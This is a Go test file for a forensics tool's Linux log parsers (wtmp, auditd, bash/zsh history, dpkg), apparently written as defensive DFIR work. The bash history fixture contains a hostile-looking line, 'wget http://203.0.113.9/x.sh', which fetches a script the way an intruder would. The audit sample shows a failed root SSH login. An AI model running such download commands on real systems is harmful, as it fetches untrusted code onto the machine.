package linux

import (
	"strings"
	"testing"
	"time"

	"github.com/custodia-dfir/custodia/evidence/logs"
	"github.com/custodia-dfir/custodia/evidence/logs/logstest"
)

// Velociraptor's wtmp.1 (AGPL: read from the shared samples): 26 records
// (15 DEAD_PROCESS, 11 USER_PROCESS, as utmpdump counts) and a partial one.
func TestVelociraptorWtmp(t *testing.T) {
	data := logstest.Sample(t, "logs/vr_wtmp.1")
	out := logstest.MustRun(t, Utmp, data, logs.Options{Name: "wtmp.1"})
	if len(out.Events) != 26 {
		t.Fatalf("%d events, want 26", len(out.Events))
	}
	types := map[string]int{}
	for _, e := range out.Events {
		v, _ := e.Get("type")
		types[v]++
	}
	if types["DEAD_PROCESS"] != 15 || types["USER_PROCESS"] != 11 {
		t.Errorf("types %v", types)
	}
	if len(out.Warnings) != 1 || out.Warnings[0].Offset != 26*384 || out.Warnings[0].Why != "256 bytes at the end are a partial record (a record is 384 bytes): not read" {
		t.Errorf("warnings %v", out.Warnings)
	}
	// The login Velociraptor's LastUserLogin test pairs with a logout.
	found := false
	for _, e := range out.Events {
		f := logstest.Fields(e)
		if f["id"] == "ts/9" && f["pid"] == "3435060" && f["type"] == "USER_PROCESS" {
			found = true
			if f["user"] != "mic" || f["remote_host"] != "192.168.1.2" || f["src_ip"] != "192.168.1.2" || f["line"] != "pts/9" ||
				e.Time.Format(time.RFC3339) != "2023-12-21T15:54:24Z" || e.TimestampDesc != logs.DescLogin || f["action"] != "login" {
				t.Errorf("login record %v at %v", f, e.Time)
			}
		}
		if f["line"] == "pts/9" && f["type"] == "DEAD_PROCESS" && e.Time.Format(time.RFC3339) == "2023-12-21T17:34:32Z" && e.TimestampDesc == logs.DescLogout {
			found = found && true
		}
	}
	if !found {
		t.Error("no USER_PROCESS ts/9 pid 3435060")
	}
}

const auditLog = `type=USER_LOGIN msg=audit(1364481363.243:24287): pid=3 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=179.39.2.12 terminal=sshd res=failed'
type=SYSCALL msg=audit(1364481363.243:24288): arch=c000003e syscall=59 success=yes exit=0 a0=1 items=2 ppid=1 pid=2 auid=1000 uid=0 comm="bash" exe="/usr/bin/bash" key="exec"
type=PROCTITLE msg=audit(1364481363.243:24288): proctitle=2F62696E2F7368002D63006563686F206869
node=web01 type=USER_CMD msg=audit(1700000000.000:7): pid=1 uid=1000 auid=1000 ses=3 msg='cwd="/home/alice" cmd=6C73202D6C61 terminal=pts/0 res=success' AUID="alice" UID="alice"
garbage line
`

func TestAuditd(t *testing.T) {
	out := logstest.MustRun(t, Auditd, []byte(auditLog), logs.Options{})
	if len(out.Events) != 4 {
		t.Fatalf("%d events", len(out.Events))
	}
	want := []map[string]string{
		{"type": "USER_LOGIN", "audit_serial": "24287", "op": "login", "acct": "root", "user": "root", "src_ip": "179.39.2.12", "res": "failed", "outcome": "failure", "exe": "/usr/sbin/sshd"},
		{"type": "SYSCALL", "syscall": "59", "comm": "bash", "key": "exec", "outcome": "success"},
		{"type": "PROCTITLE", "proctitle": "/bin/sh -c echo hi"},
		{"host": "web01", "type": "USER_CMD", "cmd": "ls -la", "cwd": "/home/alice", "user": "alice", "outcome": "success"},
	}
	for i, w := range want {
		f := logstest.Fields(out.Events[i])
		for k, v := range w {
			if f[k] != v {
				t.Errorf("record %d: %s = %q, want %q", i+1, k, f[k], v)
			}
		}
	}
	if e := out.Events[0]; e.Time.Format(time.RFC3339Nano) != "2013-03-28T14:36:03.243Z" || e.TimeText != "1364481363.243:24287" {
		t.Errorf("time %v %q", e.Time, e.TimeText)
	}
	if len(out.Warnings) != 1 || out.Warnings[0].Line != 5 || !strings.HasPrefix(out.Warnings[0].Why, "not an audit record") {
		t.Errorf("warnings %v", out.Warnings)
	}
}

func TestBashHistory(t *testing.T) {
	hist := "ls\n#1700000000\ncd /tmp\n#1700000060\nfor i in 1 2; do\n  echo $i\ndone\n#1700000120\nwget http://203.0.113.9/x.sh\n"
	data := []byte(hist)
	out := logstest.MustRun(t, History, data, logs.Options{})
	if len(out.Events) != 4 {
		t.Fatalf("%d events: %v", len(out.Events), out.Events)
	}
	if !out.Events[0].Time.IsZero() || out.Events[0].Message != "ls" {
		t.Errorf("untimed command %+v", out.Events[0])
	}
	if e := out.Events[2]; e.Time.Format(time.RFC3339) != "2023-11-14T22:14:20Z" || e.Message != "for i in 1 2; do\n  echo $i\ndone" ||
		string(logstest.Record(data, e)) != "#1700000060\nfor i in 1 2; do\n  echo $i\ndone" || e.TimestampDesc != logs.DescCommand {
		t.Errorf("multi-line command %q at %v record %q", e.Message, e.Time, logstest.Record(data, e))
	}
	if len(out.Warnings) != 1 || !strings.HasPrefix(out.Warnings[0].Why, "1 commands have no time stamp") {
		t.Errorf("warnings %v", out.Warnings)
	}
	out = logstest.MustRun(t, History, []byte(": 1700000000:0;sudo -i\n: 1700000005:2;id\n"), logs.Options{})
	if len(out.Events) != 2 || out.Events[1].Message != "id" || out.Events[1].Time.Unix() != 1700000005 {
		t.Errorf("zsh: %v", out.Events)
	}
}

func TestDpkg(t *testing.T) {
	log := "2024-01-15 10:22:33 startup archives unpack\n2024-01-15 10:22:34 install openssh-server:amd64 <none> 1:9.2p1-2+deb12u2\n" +
		"2024-01-15 10:22:35 status installed openssh-server:amd64 1:9.2p1-2+deb12u2\n2024-01-15 10:22:36 remove netcat-traditional:amd64 1.10-47 <none>\nbad\n"
	berlin, _ := time.LoadLocation("Europe/Berlin")
	out := logstest.MustRun(t, Dpkg, []byte(log), logs.Options{Location: berlin})
	if len(out.Events) != 4 || len(out.Warnings) != 1 {
		t.Fatalf("%d events, warnings %v", len(out.Events), out.Warnings)
	}
	f := logstest.Fields(out.Events[1])
	if f["action"] != "install" || f["package"] != "openssh-server" || f["arch"] != "amd64" || f["version_old"] != "none" || f["version_new"] != "1:9.2p1-2+deb12u2" {
		t.Errorf("install %v", f)
	}
	if e := out.Events[1]; e.Time.Format(time.RFC3339) != "2024-01-15T09:22:34Z" || !e.TimeZoneAssumed || e.TimeZone != "Europe/Berlin" {
		t.Errorf("time %v %q", e.Time, e.TimeZone)
	}
	if f := logstest.Fields(out.Events[2]); f["status"] != "installed" || f["version"] != "1:9.2p1-2+deb12u2" {
		t.Errorf("status %v", f)
	}
}

func FuzzLinux(f *testing.F) {
	f.Add([]byte(auditLog))
	f.Add([]byte("#1700000000\nls\n: 1:0;x\n"))
	f.Add([]byte("2024-01-15 10:22:34 install a:amd64 <none> 1\n"))
	f.Add(make([]byte, 384*2+10))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, p := range []logs.Parser{Auditd, History, Dpkg, Utmp} {
			logstest.Fuzz(t, p, data)
		}
	})
}
